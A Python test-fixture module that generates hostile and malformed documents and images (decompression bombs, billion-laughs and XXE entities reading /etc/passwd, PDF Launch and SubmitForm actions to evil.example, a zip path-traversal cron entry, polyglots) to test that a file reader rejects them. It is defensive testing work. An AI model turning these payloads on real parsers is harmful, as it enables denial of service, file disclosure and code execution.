"""Files made to break what reads them: each is refused with its reason, or harmless.

Made by code, so that everybody can see what is in them and none lies in the repository as a file that a
virus scanner or a curious person stumbles over.
"""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Final

import xlsxwriter
from PIL import Image
from pypdf import PdfWriter

from kimhub.core.files import MIMES
from tests.library import papers

Make = Callable[[], bytes]
LAUGHS: Final = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE: Final = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
DTD: Final = '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd">'
SPACES: Final = '<text:p>Isi<text:s text:c="999999999"/>yang wajar</text:p>'
PLAIN: Final = "<w:p><w:r><w:t>Isi yang wajar</w:t></w:r></w:p>"


@cache
def zeros(megabytes: int) -> bytes:
    """So many megabytes of spaces, as Flate packs them: one is packed, so that it can be repeated."""
    packer, block, check = zlib.compressobj(), b" " * 1_000_000, 1
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(megabytes):
        check = zlib.adler32(block, check)
    return packed + packed[2:] * (megabytes - 1) + packer.flush()[:-4] + struct.pack(">I", check)


def thing(number: int, head: str, words: str) -> str:
    """A stream of a PDF."""
    return f"{number} 0 obj\n<< /Length {len(words)} {head} >>\nstream\n{words}\nendstream\nendobj\n"


def stream(number: int, content: bytes, filters: str, more: str = "") -> str:
    words = content.decode("latin-1")
    return thing(number, f"/Filter {filters} {more}", words)


def pdf_with(catalog: str = "", extra: str = "", page: str = "", content: str = "") -> bytes:
    """A page that says "Isi yang wajar", with something besides."""
    made = papers.pdf(["Isi yang wajar"], catalog=catalog, extra=extra).decode("latin-1")
    made = made.replace("/Resources <<", f"{page} /Resources <<", 1)
    return (made.replace("/Contents 11 0 R", f"/Contents {content}") if content else made).encode("latin-1")


def pdf_bomb() -> bytes:
    """A page whose drawing unpacks twice, to 300 MB."""
    packed = zlib.compress(zeros(300), 9)
    return pdf_with(extra=stream(100, packed, "[/FlateDecode /FlateDecode]"), content="100 0 R")


def pdf_laughs() -> bytes:
    """Drawings within drawings: ten times ten, nine times over."""
    forms = []
    for n in range(9):
        below = " ".join(["/X Do"] * 10) if n else "0 0 m 9 9 l S"
        resources = f"/Resources << /XObject << /X {100 + n - 1} 0 R >> >>" if n else ""
        head = f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] {resources}"
        forms.append(
            f"{100 + n} 0 obj\n<< {head} /Length {len(below)} >>\nstream\n{below}\nendstream\nendobj\n"
        )
    made = pdf_with(extra="".join(forms), content="200 0 R").decode("latin-1")
    made = made.replace("trailer", thing(200, "", "/X Do") + "trailer", 1)
    return made.replace("/Font <<", "/XObject << /X 108 0 R >> /Font <<", 1).encode("latin-1")


def pdf_pages(count: int) -> bytes:
    """A tree of pages that says it has so many."""
    return papers.pdf(["Satu"]).replace(b"/Count 1 ", f"/Count {count} ".encode())


def pdf_many_pages() -> bytes:
    """A million pages by six levels of ten times the same."""
    levels = "".join(
        f"{100 + n} 0 obj\n<< /Type /Pages /Count {10 ** (n + 1)} /Kids"
        f" [{' '.join([f'{99 + n} 0 R' if n else '10 0 R'] * 10)}] >>\nendobj\n"
        for n in range(6)
    )
    return papers.pdf(["Satu"], extra=levels).replace(b"/Pages 2 0 R", b"/Pages 105 0 R")


def pdf_locked() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("sandi", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_huge_picture() -> bytes:
    """A picture of ten billion points in a few bytes."""
    head = "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB"
    extra = stream(100, zlib.compress(b"\0" * 100), "/FlateDecode", f"{head} /BitsPerComponent 8")
    extra += thing(101, "", "500 0 0 500 0 0 cm /X Do")
    made = pdf_with(extra=extra, content="101 0 R")
    return made.replace(b"/Font <<", b"/XObject << /X 100 0 R >> /Font <<", 1)


def zip_lying() -> bytes:
    """A member that says it is small and is not."""
    made = bytearray(papers.docx(PLAIN * 20_000))
    with zipfile.ZipFile(io.BytesIO(bytes(made))) as archive:
        size = archive.getinfo("word/document.xml").file_size
    return bytes(made).replace(struct.pack("<I", size), struct.pack("<I", 100))


def zip_locked() -> bytes:
    """Members that say they are encrypted."""
    made = bytearray(papers.docx(PLAIN))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(sign)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(sign, place + 4)
    return bytes(made)


def zip_flat() -> bytes:
    """One member of 300 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(300):
                member.write(b" " * 1_000_000)
    return buffer.getvalue()


def zip_overlapping() -> bytes:
    """A list of members in which many names mean the same bytes."""
    one = papers.packed({"word/document.xml": b" " * 3_000_000})
    place = one.find(b"PK\x01\x02")
    end = one.find(b"PK\x05\x06")
    entry = one[place:end]
    count = 200
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entry) * count, place, 0)
    return one[:place] + entry * count + tail


def nested() -> bytes:
    """An archive in an archive in an archive, inside a document: nobody opens it."""
    inner = papers.packed({"0": zeros(50)})
    for _ in range(4):
        inner = papers.packed({f"{n}.zip": inner for n in range(8)})
    return papers.docx(PLAIN, more={"word/embeddings/oleObject1.bin": inner})


def xlsx(rows: str = "", words: str = "Isi yang wajar", before: str = "") -> bytes:
    """A workbook that says "Isi yang wajar", or these rows or words with a document type before."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet("Satu").write("A1", "Isi yang wajar")
    members: dict[str, str | bytes] = {}
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode()
            if name.endswith("sharedStrings.xml"):
                text = text.replace("?>", f"?>{before}", 1).replace("Isi yang wajar", words)
            if name.endswith("sheet1.xml") and rows:
                text = re.sub("<row.*</row>", rows, text)
            members[name] = text
    return papers.packed(members)


def far_cells() -> bytes:
    """Two cells as far apart as can be."""
    cell = '<row r="{0}"><c r="{1}{0}"><v>1</v></c></row>'
    return xlsx(cell.format(1, "A") + cell.format(1_048_576, "XFD"))


def png(width: int, height: int) -> bytes:
    """A PNG that says it is so large."""

    def part(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = part(b"IHDR", head) + part(b"IDAT", zeros(5)) + part(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def png_chatty() -> bytes:
    """A comment of 50 MB."""
    made = png(8, 8)
    text = b"Comment\0\0" + zeros(50)
    part = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    return made[:33] + part + made[33:]


def jpeg(width: int = 64, height: int = 64) -> bytes:
    """A JPEG that says it is so large."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(buffer, "JPEG")
    made = bytearray(buffer.getvalue())
    place = made.find(b"\xff\xc0") + 5
    made[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(made)


def gif_long() -> bytes:
    """An animation of ten thousand pictures: the first is enough."""
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + frame * 10_000 + b"\x3b"


def polyglot() -> bytes:
    """A PDF that is an archive as well, with a web page on top."""
    return papers.pdf(["Isi yang wajar"]) + b"<script>pwned()</script>" + papers.docx(PLAIN)


HARMLESS: Final = ""  # read as if nothing were there
ACTION: Final = "/OpenAction 100 0 R"
XFA: Final = "/AcroForm << /XFA [(template) 100 0 R] /NeedAppearances true >>"
MACROS: Final[dict[str, str | bytes]] = {
    "word/vbaProject.bin": b"\xd0\xcf", "../../etc/cron.d/x": "* * * * * root sh",
}  # fmt: skip
WAJAR: Final = papers.pdf(["Isi yang wajar"])


def action(what: str) -> bytes:
    """A PDF that does this when it is opened."""
    return pdf_with(ACTION, f"100 0 obj\n<< /Type /Action {what} >>\nendobj\n")


def half(content: bytes) -> bytes:
    return content[: len(content) // 2]


def sized(box: str) -> bytes:
    """A PDF whose page is so large."""
    return papers.pdf(["Isi yang wajar"], size=box)


def looped() -> bytes:
    """A PDF whose pages are within themselves."""
    return WAJAR.replace(b"/Kids [10 0 R]", b"/Kids [2 0 R]")


# What it is called, which begins with its type; how it is made; the reasons that are right, HARMLESS among
# them when it may be read.
_ALL: Final[list[tuple[str, Make, tuple[str, ...]]]] = [
    (
        "pdf: JavaScript",
        lambda: action("/S /JavaScript /JS (while\\(1\\){})"),
        (HARMLESS,),
    ),
    (
        "pdf: starts a program",
        lambda: action("/S /Launch /F (/bin/sh) /Win << /F (c.exe) >>"),
        (HARMLESS,),
    ),
    ("pdf: sends a form", lambda: action("/S /SubmitForm /F (http://evil.example/)"), (HARMLESS,)),
    ("pdf: opens an address", lambda: action("/S /URI /URI (http://evil.example/)"), (HARMLESS,)),
    ("pdf: reads another file", lambda: action("/S /GoToR /F (/etc/passwd) /D [0 /Fit]"), (HARMLESS,)),
    ("pdf: a form of XFA", lambda: pdf_with(XFA, thing(100, "", "<xdp:xdp>")), (HARMLESS,)),
    ("pdf: a broken list of objects", lambda: WAJAR + b"startxref\n99999999\n%%EOF", (HARMLESS, "broken")),
    ("pdf: cut in half", lambda: half(WAJAR), ("broken",)),
    ("pdf: nothing but its head", lambda: b"%PDF-1.7\n", ("broken",)),
    ("pdf: locked", pdf_locked, ("locked",)),
    ("pdf: says a million pages", lambda: pdf_pages(1_000_000), ("bomb", "broken")),
    ("pdf: a million pages", pdf_many_pages, ("bomb", "broken")),
    ("pdf: fewer than no pages", lambda: WAJAR.replace(b"/Count 1 ", b"/Count -5 "), (HARMLESS, "broken")),
    ("pdf: pages within themselves", looped, ("broken", "scan")),
    ("pdf: a page of 20 km", lambda: sized("0 0 56000000 56000000"), (HARMLESS, "broken")),
    ("pdf: a page like a thread", lambda: sized("0 0 1 900000"), (HARMLESS, "broken")),
    ("pdf: packed twice", pdf_bomb, ("scan", "died", "slow", "broken")),
    ("pdf: drawings within drawings", pdf_laughs, ("scan", "died", "slow")),
    ("pdf: a picture of ten billion points", pdf_huge_picture, ("scan",)),
    (
        "pdf: brackets without end",
        lambda: pdf_with(f"/Names {'[' * 200_000}"),
        (HARMLESS, "broken", "died"),
    ),
    ("pdf: a web page and an archive too", polyglot, (HARMLESS,)),
    ("pdf: a picture by its content", jpeg, ("broken",)),
    ("docx: the archive of a PDF", polyglot, (HARMLESS, "broken")),
    ("docx: one member of 300 MB", zip_flat, ("bomb",)),
    ("docx: archives within archives", nested, (HARMLESS,)),
    ("docx: members that overlap", zip_overlapping, ("bomb", "broken")),
    ("docx: members that lie", zip_lying, ("broken", "bomb")),
    ("docx: locked", zip_locked, ("bomb",)),
    ("docx: cut in half", lambda: half(papers.docx(PLAIN * 50)), ("broken",)),
    ("docx: a picture by its content", jpeg, ("broken",)),
    ("docx: billion laughs", lambda: papers.docx("<w:t>&i;</w:t>", before=LAUGHS), ("entities",)),
    ("docx: a file of the machine", lambda: papers.docx("<w:t>&x;</w:t>", before=OUTSIDE), ("entities",)),
    ("docx: a document type far away", lambda: papers.docx(PLAIN, before=DTD), ("entities",)),
    ("docx: elements without end", lambda: papers.docx("<w:p>" * 100_000), ("bomb",)),
    ("docx: macros and a path", lambda: papers.docx(PLAIN, more=MACROS), (HARMLESS,)),
    ("odt: billion laughs", lambda: papers.odt("<text:p>&i;</text:p>", before=LAUGHS), ("entities",)),
    (
        "odt: a file of the machine",
        lambda: papers.odt("<text:p>&x;</text:p>", before=OUTSIDE),
        ("entities",),
    ),
    ("odt: a billion spaces", lambda: papers.odt(SPACES * 3), (HARMLESS,)),
    ("pptx: too many slides", lambda: papers.pptx(["x"] * 3500), ("bomb",)),
    ("xlsx: billion laughs", lambda: xlsx(words="&i;", before=LAUGHS), ("broken", "empty")),
    ("xlsx: a file of the machine", lambda: xlsx(words="&x;", before=OUTSIDE), ("broken", "empty")),
    ("xlsx: cells far apart", far_cells, ("died", "bomb")),
    ("png: 100 megapixels", lambda: png(10_000, 10_000), ("pixels",)),
    ("png: 50 million points in a row", lambda: png(50_000_000, 1), ("pixels",)),
    ("png: a comment of 50 MB", png_chatty, ("broken",)),
    ("png: a web page", lambda: b"<html><script>pwned()</script>", ("broken",)),
    ("jpg: 100 megapixels", lambda: jpeg(12_000, 9_000), ("pixels",)),
    ("jpg: cut in half", lambda: half(jpeg()), ("broken",)),
    ("gif: ten thousand pictures", gif_long, ("scan",)),
    ("txt: signs that cannot be seen", lambda: "Isi\0 yang\u202e \ufeffwajar".encode(), (HARMLESS,)),
]
CORPUS: Final = {
    name: (MIMES[name.partition(":")[0]], make, frozenset(reasons)) for name, make, reasons in _ALL
}
